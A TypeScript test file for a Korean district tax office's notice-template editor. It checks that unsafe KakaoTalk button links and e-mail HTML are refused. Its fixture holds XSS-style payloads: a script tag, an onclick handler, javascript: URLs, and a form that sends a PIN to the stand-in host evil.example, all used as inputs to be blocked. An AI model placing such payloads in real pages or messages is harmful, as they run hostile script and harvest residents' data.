import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { forEachEngine } from '../../../test-support/engines.ts';
import { builtinTemplates } from './templates.defaults.ts';
import { createDistrictWithStaff, startTestServer, TestClient, type TestServer } from '../../../test-support/test-server.ts';

// Template editing over real HTTP on both engines: the form and the API
// refuse a KakaoTalk button or an e-mail that leads outside the district's
// allowed domains, or e-mail HTML with script, event handlers or a form,
// naming each thing in the page's language; the district's domains are
// read and replaced through the API by officials only; an ordinary edit
// saves.

const PUBLIC_URL = 'https://tax.example.go.kr';
const HOSTILE = '<!doctype html><html lang="ko"><body><p onclick="steal()">안내</p><script>alert(1)</script><form action="https://evil.example/steal"><input name="pin"></form><a href="javascript:alert(1)">납부</a></body></html>';

function form(fields: Record<string, string>): string {
  return new URLSearchParams(fields).toString();
}

forEachEngine('template editing refuses unsafe links and HTML', (ctx) => {
  let server: TestServer;
  let official: TestClient;
  let desk: TestClient;
  const api = (c: TestClient, path: string, method = 'GET', body?: unknown) => c.json(path, method, body, { 'x-csrf-token': c.csrfToken ?? '' });
  const post = (c: TestClient, path: string, fields: Record<string, string>) =>
    c.request(path, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded', accept: 'text/html' }, body: form({ _csrf: c.csrfToken ?? '', ...fields }) });
  const saved = async () => (await ctx.db.query(`SELECT channel FROM message_templates WHERE district_code = 'gangnam'`)).rows.length;

  before(async () => {
    server = await startTestServer(ctx.db, { TAXSTATION_PUBLIC_URL: PUBLIC_URL });
    const g = await createDistrictWithStaff(ctx.db, 'gangnam', ['tax_official', 'desk_agent'], { ko: '강남구', en: 'Gangnam-gu' });
    official = new TestClient(server.url);
    await official.login(g.tax_official);
    desk = new TestClient(server.url);
    await desk.login(g.desk_agent);
  });
  after(() => server.close());

  test('the district’s domains through the API: officials replace them, others may not, bad ones are named', async () => {
    assert.deepEqual(await (await api(official, '/api/templates/link-domains')).json(), { domains: [], allowedHosts: ['tax.example.go.kr'] });
    const put = await api(official, '/api/templates/link-domains', 'PUT', { domains: ['gangnam.go.kr'] });
    assert.equal(put.status, 200);
    assert.deepEqual(await put.json(), { domains: ['gangnam.go.kr'], allowedHosts: ['gangnam.go.kr', 'tax.example.go.kr'] });
    const bad = await api(official, '/api/templates/link-domains', 'PUT', { domains: ['javascript:alert(1)'] });
    assert.equal(bad.status, 422);
    assert.match(((await bad.json()) as { detail: string }).detail, /javascript:alert\(1\)/);
    assert.equal((await api(desk, '/api/templates/link-domains', 'PUT', { domains: ['evil.example'] })).status, 403);
    assert.equal((await official.json('/api/templates/link-domains', 'PUT', { domains: ['evil.example'] })).status, 403, 'no CSRF token');
  });

  test('API: a javascript: or foreign button and hostile e-mail HTML are refused (422), each thing named; nothing saved', async () => {
    const js = await api(official, '/api/templates/notice/kakao/ko?lang=en', 'PUT', { kakaoTemplateCode: 'GN_1', body: '{{amount}}', buttons: [{ name: 'Pay', url: 'javascript:alert(1)' }] });
    assert.equal(js.status, 422);
    const problem = (await js.json()) as { code: string; detail: string; errors: { field: string; reason: string }[] };
    assert.equal(problem.code, 'template_unsafe');
    assert.match(problem.detail, /buttons\[0\]\.url: the address javascript:alert\(1\) is not allowed/);
    assert.deepEqual(problem.errors.map((e) => e.field), ['buttons[0].url']);

    const foreign = await api(official, '/api/templates/notice/kakao/ko?lang=ko', 'PUT', { kakaoTemplateCode: 'GN_1', body: '{{amount}}', buttons: [{ name: '납부', url: 'https://evil.example/pay' }] });
    assert.equal(foreign.status, 422);
    assert.match(((await foreign.json()) as { detail: string }).detail, /https:\/\/evil\.example\/pay 주소는 허용된 도메인이 아닙니다. 허용된 도메인: gangnam\.go\.kr, tax\.example\.go\.kr/);

    const mail = await api(official, '/api/templates/notice/email/ko?lang=en', 'PUT', { subject: 'x', body: '{{link}}', htmlBody: HOSTILE });
    assert.equal(mail.status, 422);
    const detail = ((await mail.json()) as { detail: string }).detail;
    for (const named of [/event handler onclick on <p>/, /element <script>/, /forms and their action https:\/\/evil\.example\/steal/, /element <input>/, /javascript:alert\(1\)/]) assert.match(detail, named);

    const preview = await api(official, '/api/templates/notice/email/ko/preview', 'POST', { subject: 'x', body: '{{link}}', htmlBody: HOSTILE });
    assert.equal(preview.status, 422, 'a preview refuses it too');
    assert.equal(await saved(), 0);
  });

  test('the form: the error summary names each refused thing in Korean and in English, next to its field', async () => {
    for (const [lang, summary] of [
      ['en', [/<a href="#tpl-html-body">html_body: the event handler onclick on &lt;p&gt; is not allowed/, /<a href="#tpl-html-body">html_body: the element &lt;script&gt; is not allowed/]],
      ['ko', [/<a href="#tpl-html-body">html_body: &lt;p&gt;의 이벤트 처리기 onclick은\(는\) 쓸 수 없습니다/, /html_body: 입력 양식\(&lt;form&gt;\)과 그 전송 주소 https:\/\/evil\.example\/steal/]],
    ] as const) {
      const refused = await post(official, `/console/templates/notice/email/ko?lang=${lang}`, { action: 'save', subject: 'x', body: '{{link}}', htmlBody: HOSTILE });
      assert.equal(refused.status, 422);
      const page = await refused.text();
      assert.match(page, /data-error-summary/);
      for (const pattern of summary) assert.match(page, pattern);
      assert.match(page, /id="tpl-html-body-error"/);
      assert.match(page, /aria-invalid="true"/);
      assert.ok(page.includes('&lt;script&gt;alert(1)&lt;/script&gt;'), 'what was typed is shown back, escaped, for correcting');
    }
    const button = await post(official, '/console/templates/notice/kakao/ko?lang=en', { action: 'save', kakaoTemplateCode: 'GN_1', body: '{{amount}}', buttons: '납부 | javascript:alert(1)' });
    assert.equal(button.status, 422);
    assert.match(await button.text(), /<a href="#tpl-buttons">buttons\[0\]\.url: the address javascript:alert\(1\) is not allowed/);
    assert.equal(await saved(), 0);
  });

  test('an ordinary edit with links to the allowed domains saves; the edit page says where links may go', async () => {
    const html = builtinTemplates('notice', 'ko').email.htmlBody!.replace('</main>', '<p><a href="https://www.gangnam.go.kr/tax">세무과</a></p></main>').trimEnd();
    const ok = await post(official, '/console/templates/notice/email/ko', { action: 'save', subject: '[{{district_name}}] 고지', body: '{{link}}', htmlBody: html });
    assert.equal(ok.status, 303);
    const stored = (await ctx.db.query<{ html_body: string }>(`SELECT html_body FROM message_templates WHERE district_code = 'gangnam' AND channel = 'email'`)).rows[0]!;
    assert.equal(stored.html_body, html, 'saved exactly as written');
    const kakao = await api(official, '/api/templates/notice/kakao/ko', 'PUT', { kakaoTemplateCode: 'GN_1', body: '{{amount}}', buttons: [{ name: '납부하기', url: '{{link}}' }, { name: '안내', url: 'https://tax.example.go.kr/r/guide/refund' }] });
    assert.equal(kakao.status, 200);
    const edit = await official.request('/console/templates/notice/kakao/ko?lang=en', { headers: { accept: 'text/html' } });
    assert.match(await edit.text(), /<p id="tpl-link-hosts">Links \(buttons, links and images in e-mail, addresses in text\) may only go to these domains and their subdomains: gangnam\.go\.kr, tax\.example\.go\.kr\./);
  });
});
